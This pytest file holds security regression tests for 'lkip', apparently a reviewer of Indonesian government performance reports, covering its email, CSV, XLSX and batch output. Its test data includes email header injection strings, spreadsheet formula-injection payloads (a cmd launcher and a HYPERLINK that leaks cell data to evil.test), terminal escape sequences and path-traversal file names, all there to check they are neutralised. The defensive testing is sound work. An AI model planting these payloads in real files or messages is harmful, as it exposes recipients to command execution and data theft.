"""Hostile and careless input (issue 16), tried as an attacker would: crafted recipients.csv
against a local SMTP server (aiosmtpd on 127.0.0.1)."""

from __future__ import annotations

from pathlib import Path

import pytest
from builders import Sink, crafted_result, smtp_config

from lkip import pipeline
from lkip.cli import main

pytest.importorskip("aiosmtpd.controller")  # the smtp fixture's server

ROOT = Path(__file__).resolve().parents[1]
DINKES = ROOT / "samples" / "synthetic" / "dinkes-kab-sukamaju-2023.pdf"
KECAMATAN = ROOT / "samples" / "synthetic" / "kecamatan-sukamaju-barat-2024.pdf"


def test_line_break_in_address_adds_no_recipient(tmp_path, smtp, results, monkeypatch,
                                                 capsys) -> None:
    """Defect 1: 'good@x.test\\r\\nBcc: evil@y.test' in a cell must not reach evil@y.test; the bad
    row is reported with its line number and skipped, the other rows are sent."""
    dinkes, kecamatan = results["dinkes"][1], results["kecamatan"][1]
    recipients = tmp_path / "recipients.csv"
    recipients.write_bytes(
        ("instansi,email\n"
         f'"{dinkes.document.instansi}","good@x.test\r\nBcc: evil@y.test"\n'
         f'"{kecamatan.document.instansi}","camat@sukamaju.go.id, CAMAT@Sukamaju.go.id"\n'
         ).encode())
    config = smtp_config(tmp_path, smtp.port, monkeypatch)
    code = main(["email", str(results["kecamatan"][0]), "--recipients", str(recipients),
                 "--config", str(config), "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    everyone = [r.lower() for _, rcpts in smtp.messages for r in rcpts]
    assert "evil@y.test" not in everyone and not any("bcc" in r for r in everyone)
    assert everyone == ["camat@sukamaju.go.id"]  # case-folded: one copy
    assert code == 0, err
    assert "line 2" in err and "line break" in err


@pytest.mark.parametrize("cell", ["a@b", "good@x.test\nBcc: evil@y.test", "@x.test",
                                  "a@b@c.test", "x@-bad-.test",
                                  # the line break made a space or a tab (a spreadsheet's export):
                                  # read as 'good@x.testBcc' and evil@y.test
                                  "good@x.test Bcc: evil@y.test", "good@x.test\tBcc: evil@y.test",
                                  "good@x.test\u2028Bcc: evil@y.test", "good@x.test\x0bevil@y.test"])
def test_bad_address_rows_are_skipped_not_sent(tmp_path, cell) -> None:
    from lkip.report.email import Recipients, name_key

    path = tmp_path / "r.csv"
    path.write_text(f'instansi,email\nDinas Kesehatan,"{cell}"\nDinas Pendidikan,b@b.go.id\n',
                    encoding="utf-8")
    read = Recipients.read(path)
    assert not read.to.get(name_key("Dinas Kesehatan"))
    assert read.to[name_key("Dinas Pendidikan")] == ["b@b.go.id"]
    assert len(read.skipped) == 1 and "line 2" in read.skipped[0]


# --- defect 2: no live formula in a spreadsheet ------------------------------------------------

EVIL_REPORT = """LAPORAN KINERJA INSTANSI PEMERINTAH TAHUN 2024

Tabel 3.1 Capaian Kinerja Sasaran

No | Sasaran | Indikator | Satuan | Target | Realisasi | Capaian
1 | =1+2 Meningkatnya mutu | @SUM(1+1)*cmd|'/C calc'!A0 | % | 80 | 90 | 100,00
2 | +Meningkatnya layanan | -2+3 Persentase layanan | % | 50 | 40 | 80,00

Tabel 3.2 Realisasi Anggaran

No | Program | Anggaran (Rp) | Realisasi (Rp) | %
1 | =HYPERLINK("http://evil.test/?d="&A1,"klik") | 1.000.000 | 900.000 | 90,00
2 | \tProgram Pelayanan | 2.000.000 | 1.500.000 | 75,00
"""
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _live_cells(book) -> list[str]:
    """Every cell of every sheet a spreadsheet would evaluate (a formula, or text starting like one)."""
    return [f"{ws.title}!{cell.coordinate}={cell.value!r}"
            for ws in book.worksheets for row in ws.iter_rows() for cell in row
            if cell.data_type == "f"
            or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_START))]


def test_review_xlsx_holds_no_live_formula(tmp_path, monkeypatch) -> None:
    """Row labels, names and a file name starting with = + - @ or a tab are text in every sheet,
    and an instansi from a crafted JSON result too."""
    import io
    import json

    from openpyxl import load_workbook

    from lkip.report.email import from_result
    from lkip.report.xlsx import render_xlsx

    monkeypatch.chdir(tmp_path)
    name = '=HYPERLINK("http:evil.test","x").txt'
    Path(name).write_text(EVIL_REPORT, encoding="utf-8")
    assert main(["check", name, "-f", "xlsx", "-o", "review.xlsx"]) in (0, 1)
    book = load_workbook("review.xlsx")
    assert _live_cells(book) == []
    cells = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert "'" + name in cells  # the text is kept, only made inert
    assert main(["check", name, "-f", "json", "-o", "review.json"]) in (0, 1)
    data = json.loads(Path("review.json").read_text(encoding="utf-8"))
    data["document"]["instansi"] = "=cmd|' /C calc'!A0"
    data["tables"][0]["caption_raw"] = "@SUM(A1:A9)"
    book = load_workbook(io.BytesIO(render_xlsx(from_result(data))))
    assert _live_cells(book) == []


_ATTACKS = ("=cmd|' /C calc'!A0 ", "+1+2 ", "-2+3 ", "@SUM(A1:A9) ", "\t=1+1 ", "\r=1+1 ",
            "\uff1d1+1 ")
_FREE_TEXT = {"raw", "caption_raw", "title", "instansi", "path", "sasaran", "indikator", "satuan",
              "kategori", "kode", "nama", "message", "message_id", "message_en", "arithmetic",
              "row", "columns", "header"}


def _poisoned(value: object, key: str, n: list[int]) -> object:
    """Every free text of a JSON result (cells, captions, names, messages, the instansi, the path)
    made to start like a formula, the attacks in turn."""
    if isinstance(value, dict):
        return {k: _poisoned(v, k, n) for k, v in value.items()}
    if isinstance(value, list):
        return [_poisoned(v, key, n) for v in value]
    if isinstance(value, str) and key in _FREE_TEXT:
        n[0] += 1
        return _ATTACKS[n[0] % len(_ATTACKS)] + value
    return value


def test_no_free_text_of_a_review_is_live_in_any_sheet(results) -> None:
    """Each sheet of the review XLSX (Ringkasan, Temuan, Indikator, Anggaran, Tabel) gets text
    starting with = + - @, a tab, a CR or a full-width '=': all of it is kept, none is live."""
    import io
    import json

    from openpyxl import load_workbook

    from lkip.report.email import from_result
    from lkip.report.xlsx import render_xlsx

    data = _poisoned(json.loads(results["dinkes"][0].read_text(encoding="utf-8")), "", [0])
    assert isinstance(data, dict)
    book = load_workbook(io.BytesIO(render_xlsx(from_result(data))))
    assert _live_cells(book) == []
    attacks = {ws.title: {a for a in _ATTACKS for row in ws.iter_rows() for c in row
                          if isinstance(c.value, str) and c.value.startswith("'" + a)}
               for ws in book.worksheets}
    assert len(attacks) == 5 and all(attacks.values()), attacks  # it reached every sheet
    assert set().union(*attacks.values()) == set(_ATTACKS)


def test_summary_cells_from_a_report_are_not_live(tmp_path) -> None:
    """The instansi and the reason of a batch record (read from a report), its file name and its
    path, starting with a tab or a CR too, are text in summary.csv and summary.xlsx."""
    import csv
    import io

    from openpyxl import load_workbook

    from lkip.batch.store import Record
    from lkip.batch.summary import render_csv, render_xlsx, rows

    records = [Record(sha256=str(n), path=f"{attack}.pdf", report=f"{attack}.pdf",
                      status="ok" if n % 2 else "error", lkip_version="x", reason=attack,
                      reason_en=attack, instansi=attack + "Dinas")
               for n, attack in enumerate(_ATTACKS)]
    header, body = rows(records, {}, "id")
    cells = [c for row in csv.reader(io.StringIO(render_csv(header, body), newline=""))
             for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START + ("\uff1d",))]
    assert {"'" + a + "Dinas" for a in _ATTACKS} <= set(cells)
    book = load_workbook(io.BytesIO(render_xlsx(header, body, "id")))
    assert _live_cells(book) == []
    assert sum(isinstance(c.value, str) and c.value.startswith("'")
               for row in book.active.iter_rows() for c in row) == 4 * len(_ATTACKS)


def test_batch_summary_holds_no_live_formula(tmp_path) -> None:
    """File names are the attacker's input to summary.csv and summary.xlsx."""
    import csv

    from openpyxl import load_workbook

    from lkip.batch.run import Options, run_batch

    archive = tmp_path / "arsip"
    archive.mkdir()
    names = ['=HYPERLINK("http:evil.test","x").txt', "+1+2.txt", "-2+3.txt", "@SUM(1).txt",
             "\t=1+1.txt", "\r=1+1.txt"]
    for n, name in enumerate(names):
        (archive / name).write_text(EVIL_REPORT + f"\nCatatan {n}\n", encoding="utf-8")
    out = tmp_path / "hasil"
    run_batch(Options(inputs=[str(archive)], out=out, workers=1, timeout=120))
    with (out / "summary.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], rows
    assert {"'" + name for name in names} <= set(cells)
    assert _live_cells(load_workbook(out / "summary.xlsx")) == []


def test_control_characters_in_names_and_text_do_not_break_a_workbook(tmp_path,
                                                                     monkeypatch) -> None:
    """An ESC or a BEL (a terminal's escape sequence) in a file name or a row label: XLSX cannot
    hold them (openpyxl raised IllegalCharacterError), so `lkip check -f xlsx` failed and one
    such file name took the whole batch's summary.xlsx down. They are shown escaped."""
    from openpyxl import load_workbook

    from lkip.batch.run import Options, run_batch

    monkeypatch.chdir(tmp_path)
    arsip = Path("arsip")
    arsip.mkdir()
    name = "laporan\x1b[31m\x07.txt"
    (arsip / name).write_text(EVIL_REPORT.replace("Program Pelayanan", "Program\x1b[2J Pelayanan"),
                              encoding="utf-8")
    (arsip / "lain.txt").write_text(EVIL_REPORT + "\nCatatan\n", encoding="utf-8")
    assert main(["check", str(arsip / name), "-f", "xlsx", "-o", "review.xlsx"]) in (0, 1)
    cells = [str(c.value) for ws in load_workbook("review.xlsx").worksheets
             for row in ws.iter_rows() for c in row]
    assert any("laporan\\x1b[31m\\x07.txt" in c for c in cells)
    assert any("Program\\x1b[2J Pelayanan" in c for c in cells)
    outcome = run_batch(Options(inputs=[str(arsip)], out=Path("hasil"), workers=1, timeout=120))
    assert [r.status for r in outcome.records] == ["ok", "ok"]
    summary = [c.value for row in load_workbook("hasil/summary.xlsx").active.iter_rows()
               for c in row]
    assert "laporan\\x1b[31m\\x07.txt" in summary and "lain.txt" in summary


def test_control_characters_in_a_file_name_reach_the_terminal_escaped(tmp_path, capsys) -> None:
    """`lkip check` and `lkip batch` said a file's name as it was: an empty report named with an
    escape sequence (here the one that retitles a terminal) and a line break made a line of its
    own that reads as lkip's. As `lkip email` does, they are shown escaped."""
    arsip = tmp_path / "arsip"
    arsip.mkdir()
    name = "x\x1b]0;pwned\x07\nlkip: semua beres.txt"
    (arsip / name).write_bytes(b"")
    assert main(["check", str(arsip / name)]) == 2
    assert main(["batch", str(arsip), "-o", str(tmp_path / "hasil"), "--workers", "1"]) == 2
    err = capsys.readouterr().err
    lines = err.splitlines()
    assert len(lines) >= 2 and all(line.startswith("lkip: ") for line in lines), lines
    assert "\x1b" not in err and "\x07" not in err
    assert sum("x\\x1b]0;pwned\\x07\\nlkip: semua beres.txt" in line for line in lines) >= 2, lines


# --- defect 3: an output never replaces an input, and is never half written -------------------


@pytest.mark.parametrize("how", ["same", "dotted", "hardlink", "symlink", "folder"])
def test_check_refuses_to_write_over_its_input(tmp_path, monkeypatch, capsys, how) -> None:
    """`lkip check R.txt -o R.txt` (or ./R.txt, a link to it, or -o the input's own folder with
    --format text) must not replace the report with its review."""
    import os

    monkeypatch.chdir(tmp_path)
    report = Path("R.txt")
    report.write_text(EVIL_REPORT, encoding="utf-8")
    other = Path("S.txt")
    other.write_text(EVIL_REPORT + "\nCatatan\n", encoding="utf-8")
    args = ["check", "R.txt", "-o", "R.txt"]
    if how == "dotted":
        args = ["check", "R.txt", "-o", "./sub/../R.txt"]
        Path("sub").mkdir()
    elif how == "hardlink":
        os.link(report, "link.txt")
        args = ["check", "R.txt", "-o", "link.txt"]
    elif how == "symlink":
        os.symlink(report.resolve(), "link.txt")
        args = ["check", "R.txt", "-o", "link.txt"]
    elif how == "folder":
        args = ["check", "R.txt", "S.txt", "-o", "."]
    code = main(args)
    err = capsys.readouterr().err
    assert code == 2, err
    assert report.read_text(encoding="utf-8") == EVIL_REPORT
    assert other.read_text(encoding="utf-8") == EVIL_REPORT + "\nCatatan\n"
    assert "berkas masukan" in err and "tidak tertimpa" in err
    assert Path("link.txt").read_text(encoding="utf-8") == EVIL_REPORT if how.endswith("link") else True


def test_full_disk_leaves_the_old_review_whole(tmp_path) -> None:
    """-o onto a disk that fills up mid-write (RLIMIT_FSIZE in the child): the old review stays
    whole, no temporary file is left, the exit code says the report was not written."""
    import os
    import resource
    import signal
    import subprocess
    import sys

    report = tmp_path / "R.txt"
    report.write_text(EVIL_REPORT, encoding="utf-8")
    target = tmp_path / "review.json"
    target.write_text('{"old": "review"}\n', encoding="utf-8")

    def small_disk() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))

    proc = subprocess.run([sys.executable, "-m", "lkip.cli", "check", str(report), "-f", "json",
                           "-o", str(target)], cwd=ROOT, capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1"},
                          preexec_fn=small_disk, timeout=120)
    assert proc.returncode == 2, proc.stderr
    assert "tidak dapat menulis laporan" in proc.stderr
    assert target.read_text(encoding="utf-8") == '{"old": "review"}\n'
    assert sorted(p.name for p in tmp_path.iterdir()) == ["R.txt", "review.json"]


# --- defect 4: lkip batch writes inside its output folder only ---------------------------------


def test_batch_with_dotdot_in_the_glob_writes_inside_its_output_only(tmp_path) -> None:
    """Each '..' after a wildcard used to climb one folder out of OUTDIR/reports: a glob can put
    the reviews anywhere (here: next to the inputs, and at the top of the tree)."""
    from lkip.batch.run import Options, run_batch

    arsip = tmp_path / "arsip"
    (arsip / "a").mkdir(parents=True)
    (arsip / "a" / "r.txt").write_text(EVIL_REPORT, encoding="utf-8")
    out = tmp_path / "hasil"
    climb = "/.." * (len(arsip.parts) + 3)
    specs = [f"{arsip}/*{climb}{arsip}/a/r.txt", f"{arsip}/*/../../hasil/../arsip/a/*.txt"]
    before = {p for p in tmp_path.rglob("*")}
    outcome = run_batch(Options(inputs=specs, out=out, workers=1, timeout=120))
    outside = sorted(str(p) for p in set(tmp_path.rglob("*")) - before
                     if out not in p.parents and p != out)
    assert outside == []
    assert [r.status for r in outcome.records] == ["ok"]
    assert all(".." not in r.report.split("/") for r in outcome.records)
    written = sorted(p.relative_to(out / "reports").as_posix()
                     for p in (out / "reports").rglob("*.json"))
    assert written == ["a/r.txt.json"]
    # and a name that climbs (an older record, a bug elsewhere) is not followed by the store
    from lkip.batch.store import Store

    for name in ("../../../etc/x.txt", "/etc/x.txt", "a/./../../x.txt"):
        for path in Store(out).report_paths(name):
            assert (out / "reports").resolve() in path.resolve().parents, path


# --- defect 7: one bad item does not stop the others ------------------------------------------


def test_a_file_name_near_the_disk_limit_is_reviewed_and_the_batch_goes_on(tmp_path) -> None:
    """A report named with 246 letters (250 bytes) or 80 Chinese characters (244 bytes) exists on
    disk, but '<name>.json' or the temporary '.<name>.XXXXXXXX.tmp' beside it did not fit in 255
    bytes: the first such file stopped the whole batch ('cannot write to OUTDIR: File name too
    long'), and `lkip check -o FOLDER` could not write its review."""
    from lkip.batch.run import Options, run_batch

    arsip = tmp_path / "arsip"
    arsip.mkdir()
    names = ["a" * 246 + ".txt", "\u4e2d" * 80 + ".txt", "ok.txt"]
    for n, name in enumerate(names):
        (arsip / name).write_text(EVIL_REPORT + f"\nCatatan {n}\n", encoding="utf-8")
    out = tmp_path / "hasil"
    for _ in range(2):  # and the rerun finds the reviews it wrote
        outcome = run_batch(Options(inputs=[str(arsip)], out=out, workers=1, timeout=120))
        assert sorted((r.report, r.status) for r in outcome.records) == sorted(
            (name, "ok") for name in names)
    assert all(r.resumed for r in outcome.records)
    written = sorted(p.name for p in (out / "reports").iterdir())
    assert len(written) == 2 * len(names) and "ok.txt.json" in written
    assert all(len(name.encode("utf-8")) <= 255 for name in written)
    folder = tmp_path / "ulasan"
    folder.mkdir()
    code = main(["check", *(str(arsip / name) for name in names[1:]), "-f", "json", "-o",
                 str(folder)])
    assert code in (0, 1)
    assert sorted(p.name for p in folder.iterdir()) == sorted(["\u4e2d" * 80 + ".json", "ok.json"])


def test_line_breaks_in_instansi_and_file_name_end_in_no_traceback(tmp_path, smtp, results,
                                                                   monkeypatch, capsys) -> None:
    """A result whose instansi and source file name hold CR/LF (a header to smuggle in): no
    traceback, no header added, and the report after it is still sent and logged."""
    import json
    from email import policy
    from email.parser import BytesParser

    crafted = crafted_result(tmp_path, results, "Dinas Kesehatan\r\nBcc: evil@y.test",
                              "/arsip/lkip\r\nBcc: evil@y.test\n.pdf")
    kecamatan = results["kecamatan"][1]
    recipients = tmp_path / "recipients.csv"
    recipients.write_text("instansi,email\n"
                          '"Dinas Kesehatan Bcc: evil@y.test",dinkes@sukamaju.go.id\n'
                          f'"{kecamatan.document.instansi}",camat@sukamaju.go.id\n',
                          encoding="utf-8")
    raw: list[bytes] = []
    original = Sink.handle_DATA

    async def keep(self, server, session, envelope):  # noqa: N802
        raw.append(envelope.content)
        return await original(self, server, session, envelope)

    monkeypatch.setattr(Sink, "handle_DATA", keep)
    config = smtp_config(tmp_path, smtp.port, monkeypatch)
    out = tmp_path / "out"
    code = main(["email", str(crafted), str(results["kecamatan"][0]), "--recipients",
                 str(recipients), "--config", str(config), "--out", str(out)])
    err = capsys.readouterr().err
    assert "Traceback" not in err
    everyone = sorted(r for _, rcpts in smtp.messages for r in rcpts)
    assert everyone == ["camat@sukamaju.go.id", "dinkes@sukamaju.go.id"], err
    assert code == 0, err
    for message in raw:
        msg = BytesParser(policy=policy.default).parsebytes(message)
        assert msg["Bcc"] is None and "\n" not in str(msg["Subject"])
        for part in msg.iter_attachments():
            assert part.get_filename() and not any(c in part.get_filename() for c in "\r\n/\\")
    logged = [json.loads(line) for line in (out / "send-log.jsonl").read_text().splitlines()]
    assert sorted(e["recipient"] for e in logged if e["status"] == "sent") == everyone
    assert all(not any(c in p.name for c in "\r\n") for p in out.iterdir())


def test_a_message_that_cannot_be_made_fails_alone(tmp_path, smtp, results, monkeypatch,
                                                   capsys) -> None:
    """Whatever breaks one report's message (here its workbook), that report is reported failed
    and logged, the next one is sent, and no traceback reaches the reviewer."""
    import json

    import lkip.cli.email as cli_email
    import lkip.report.xlsx as xlsx

    dinkes, kecamatan = results["dinkes"][1], results["kecamatan"][1]
    recipients = tmp_path / "recipients.csv"
    recipients.write_text(f'instansi,email\n"{dinkes.document.instansi}",dinkes@sukamaju.go.id\n'
                          f'"{kecamatan.document.instansi}",camat@sukamaju.go.id\n',
                          encoding="utf-8")
    real = xlsx.render_xlsx

    def fragile(doc, lang="id"):
        if doc.document.instansi == dinkes.document.instansi:
            raise ValueError("sel rusak / broken cell")
        return real(doc, lang)

    monkeypatch.setattr(cli_email, "render_xlsx", fragile)  # the name `lkip email` calls
    config = smtp_config(tmp_path, smtp.port, monkeypatch)
    out = tmp_path / "out"
    code = main(["email", str(results["dinkes"][0]), str(results["kecamatan"][0]),
                 "--recipients", str(recipients), "--config", str(config), "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 1 and "Traceback" not in err
    assert [r for _, rcpts in smtp.messages for r in rcpts] == ["camat@sukamaju.go.id"]
    assert "dinkes.json" in err and "broken cell" in err
    logged = {(e["recipient"], e["status"]) for e in
              map(json.loads, (out / "send-log.jsonl").read_text().splitlines())}
    assert logged == {("dinkes@sukamaju.go.id", "failed"), ("camat@sukamaju.go.id", "sent")}


def test_a_corrupt_document_in_the_state_does_not_stop_later_batches(tmp_path) -> None:
    """state/documents/<sha>.json cut short (a full disk, an editor): the next run reviews that
    report again instead of ending in a traceback, and keeps the others."""
    from lkip.batch.run import Options, run_batch

    arsip = tmp_path / "arsip"
    arsip.mkdir()
    for n in range(2):
        (arsip / f"r{n}.txt").write_text(EVIL_REPORT + f"\nCatatan {n}\n", encoding="utf-8")
    out = tmp_path / "hasil"
    first = run_batch(Options(inputs=[str(arsip)], out=out, workers=1, timeout=120))
    assert [r.status for r in first.records] == ["ok", "ok"]
    broken = out / "state" / "documents" / f"{first.records[0].sha256}.json"
    broken.write_text(broken.read_text(encoding="utf-8")[:200], encoding="utf-8")
    for _ in range(2):
        again = run_batch(Options(inputs=[str(arsip)], out=out, workers=1, timeout=120))
        assert [r.status for r in again.records] == ["ok", "ok"]
    assert [r.resumed for r in again.records] == [True, True]
    # and one that goes bad between the plan and the summary costs only its cross-year check
    broken.write_text("{", encoding="utf-8")
    from lkip.batch.run import finish
    from lkip.batch.store import Store

    finish(Options(inputs=[str(arsip)], out=out), Store(out), again)
    assert (out / "summary.csv").is_file()


# --- defect 8: a lock on the batch output folder ----------------------------------------------


def test_a_second_batch_on_the_same_output_is_refused_and_the_lock_dies_with_its_holder(
        tmp_path, capsys) -> None:
    """Two `lkip batch` on one OUTDIR used to both review everything (and race on its files).
    While one holds OUTDIR the other exits 2 saying so; killed with -9, the holder leaves no
    stale lock."""
    import signal
    import subprocess
    import sys

    arsip = tmp_path / "arsip"
    arsip.mkdir()
    (arsip / "r.txt").write_text(EVIL_REPORT, encoding="utf-8")
    out = tmp_path / "hasil"
    out.mkdir()
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys, time; from pathlib import Path; "
         "from lkip.batch.store import Store\n"
         "with Store(Path(sys.argv[1])).locked():\n print('locked', flush=True); time.sleep(60)",
         str(out)], cwd=ROOT, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        code = main(["batch", str(arsip), "-o", str(out), "--workers", "1"])
        err = capsys.readouterr().err
        assert code == 2 and "sedang dipakai" in err and f"pid {holder.pid}" in err, err
        assert not (out / "reports").exists()
    finally:
        holder.send_signal(signal.SIGKILL)
        holder.wait()
    code = main(["batch", str(arsip), "-o", str(out), "--workers", "1"])
    assert code in (0, 1), capsys.readouterr().err
    assert (out / "reports" / "r.txt.json").is_file()


# --- defect 8: text saved as UTF-16 (Notepad's "Unicode") or UTF-8 with a BOM -----------------


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_utf16_and_bom_text_is_read_not_refused_as_binary(tmp_path, encoding) -> None:
    """The same report in each encoding reads as in UTF-8: same tables, same findings."""
    sample = ROOT / "samples" / "sibolga-diskopukmnaker-lkip-2024.ocr.txt"
    text = sample.read_text(encoding="utf-8")
    plain, other = tmp_path / "utf8.txt", tmp_path / f"{encoding}.txt"
    plain.write_bytes(text.encode("utf-8"))
    other.write_bytes(text.encode(encoding))
    want, got = pipeline.check(plain), pipeline.check(other)
    assert got.source.kind == "text"
    assert [t.caption_raw for t in got.tables] == [t.caption_raw for t in want.tables]
    assert [(f.rule, f.row, f.stated) for f in got.findings] == \
        [(f.rule, f.row, f.stated) for f in want.findings]
    assert got.document.instansi == want.document.instansi


def test_binary_is_still_refused(tmp_path) -> None:
    from lkip.pipeline import InputError

    blob = tmp_path / "blob.txt"
    blob.write_bytes(bytes(range(256)) * 64)
    with pytest.raises(InputError, match="binary"):
        pipeline.check(blob)


# --- defect 6: workers capped at the machine ----------------------------------------------------


def test_workers_far_above_the_cores_are_capped(tmp_path, capsys) -> None:
    """`--workers 5000` used to start one process per file (150 processes, 14 GB on 2 cores)."""
    from lkip.batch.pool import worker_cap
    from lkip.batch.run import Options, run_batch

    arsip = tmp_path / "arsip"
    arsip.mkdir()
    files = worker_cap() + 3
    for n in range(files):
        (arsip / f"r{n}.txt").write_text(EVIL_REPORT + f"\nCatatan {n}\n", encoding="utf-8")
    outcome = run_batch(Options(inputs=[str(arsip)], out=tmp_path / "a", workers=5000, timeout=120))
    assert [r.status for r in outcome.records] == ["ok"] * files
    assert len({r.worker for r in outcome.results}) <= worker_cap()
    code = main(["batch", str(arsip), "-o", str(tmp_path / "b"), "--workers", "5000"])
    assert code in (0, 1)
    assert f"capped at {worker_cap()}" in capsys.readouterr().err


def test_workers_are_capped_by_the_memory_available(monkeypatch) -> None:
    """On 64 cores with 2.5 GB available, 64 workers of up to 1 GB each would swap: 2 run; with
    less than one worker's memory, 1."""
    import io

    from lkip.batch import pool

    monkeypatch.setattr(pool.os, "sched_getaffinity", lambda _pid: set(range(64)))
    for available_kb, cap in ((2_621_440, 2), (400_000, 1), (80_000_000, 64)):
        meminfo = f"MemTotal: 99999999 kB\nMemAvailable: {available_kb} kB\n"
        monkeypatch.setattr(pool, "open", lambda *_a, text=meminfo, **_k: io.StringIO(text),
                            raising=False)
        assert pool.worker_cap() == cap


# --- defect 8: --timeout counts the review, not the worker's start-up ---------------------------


def test_timeout_does_not_count_worker_start_up(tmp_path, monkeypatch) -> None:
    """A worker slow to start (a cold disk, a loaded machine: here 3 s more, by sitecustomize)
    must not make a file that reviews in well under a second run over `--timeout 2`."""
    import os

    from lkip.batch.run import Options, run_batch

    slow = tmp_path / "slow"
    slow.mkdir()
    (slow / "sitecustomize.py").write_text("import time\ntime.sleep(3)\n", encoding="utf-8")
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(slow), str(ROOT)]))
    arsip = tmp_path / "arsip"
    arsip.mkdir()
    (arsip / "r.txt").write_text(EVIL_REPORT, encoding="utf-8")
    outcome = run_batch(Options(inputs=[str(arsip)], out=tmp_path / "out", workers=1, timeout=2))
    assert [(r.status, r.reason_en) for r in outcome.records] == [("ok", "")]
    assert outcome.records[0].seconds < 2


# --- defect 5: a PDF read only in part says so ------------------------------------------------


def _damaged_middle(tmp_path: Path) -> Path:
    """The 6-page dinkes PDF with its 3rd page object's /Type spoiled: pdfplumber lists 5 pages
    and reads them without a word, pdfium still counts 6."""
    import re

    data = DINKES.read_bytes()
    third = [m.start() for m in re.finditer(rb"/Type /Page\b", data)][2]
    path = tmp_path / "rusak-tengah.pdf"
    path.write_bytes(data[:third] + b"/Type /Xage" + data[third + len(b"/Type /Page"):])
    return path


def test_a_pdf_read_in_part_says_so_at_the_top_of_every_format(tmp_path, capsys) -> None:
    import io
    import json

    from openpyxl import load_workbook

    pdf = _damaged_middle(tmp_path)
    for fmt in ("text", "md", "html", "json", "xlsx"):
        out = tmp_path / f"review.{fmt}"
        code = main(["check", str(pdf), "-f", fmt, "-o", str(out)])
        assert code == 2, (fmt, capsys.readouterr().err)  # the exit code says the read was partial
        if fmt == "xlsx":
            sheet = load_workbook(io.BytesIO(out.read_bytes())).worksheets[0]
            top = f"{sheet['A2'].value} {sheet['B2'].value}"
        elif fmt == "json":
            top = json.loads(out.read_text(encoding="utf-8"))["findings"][0]["message"]
        elif fmt == "html":  # before the summary, after the letterhead
            top = out.read_text(encoding="utf-8").split('<section id="ringkasan">')[0]
            top = top.split("</style>")[1]
        else:
            top = out.read_text(encoding="utf-8")[:600]
        assert "Hanya 5 dari 6 halaman" in top, (fmt, top)
    whole = main(["check", str(DINKES), "-f", "json", "-o", str(tmp_path / "whole.json")])
    assert whole == 1  # the undamaged file: its errors, no coverage warning
    data = json.loads((tmp_path / "whole.json").read_text(encoding="utf-8"))
    assert all(f["rule"] != "coverage" for f in data["findings"])


def test_a_batch_with_a_pdf_read_in_part_says_so(tmp_path) -> None:
    import csv

    from lkip.batch.run import EXIT_FAILED, Options, run_batch

    arsip = tmp_path / "arsip"
    arsip.mkdir()
    _damaged_middle(arsip)
    outcome = run_batch(Options(inputs=[str(arsip)], out=tmp_path / "out", workers=1, timeout=120))
    assert outcome.exit_code == EXIT_FAILED
    with (tmp_path / "out" / "summary.csv").open(encoding="utf-8", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["status"] == "ok" and row["coverage"] == "1" and row["pages"] == "5"


def test_a_huge_page_is_rendered_within_the_pixel_budget(tmp_path) -> None:
    """Defect 6: a 4 KB PDF of 200 x 200 inch pages was rendered at 120 MP a page (3.9 GB peak);
    a page is now rendered at a resolution that keeps it within MAX_RENDER_PIXELS."""
    from PIL import Image
    from reportlab.pdfgen import canvas

    from lkip.extract import raster

    dot = tmp_path / "dot.png"
    Image.new("L", (4, 4), 255).save(dot)
    pdf = tmp_path / "huge.pdf"
    c = canvas.Canvas(str(pdf), pagesize=(14400, 14400))
    c.drawImage(str(dot), 0, 0, 14400, 14400)
    c.showPage()
    c.save()
    page = raster.render_pdf_page(pdf, 1)
    assert page.image.width * page.image.height <= raster.MAX_RENDER_PIXELS
    assert page.dpi < 300


def test_a_text_too_long_to_read_in_a_minute_is_refused_up_front(tmp_path) -> None:
    """Defect 6: text was read super-linearly (6 MB > 400 s); a text over MAX_TEXT_BYTES is
    refused before any reading, naming the file and the reason."""
    import time

    from lkip.pipeline import MAX_TEXT_BYTES, InputError, check

    big = tmp_path / "besar.txt"
    line = "Tabel 3.1 Capaian Kinerja 1 Persentase layanan 90% 85% 94,44% Tinggi\n"
    big.write_text(line * (MAX_TEXT_BYTES // len(line) + 10), encoding="utf-8")
    start = time.monotonic()
    with pytest.raises(InputError) as refused:
        check(big)
    assert time.monotonic() - start < 5
    assert "besar.txt" in str(refused.value) and "too large" in str(refused.value)
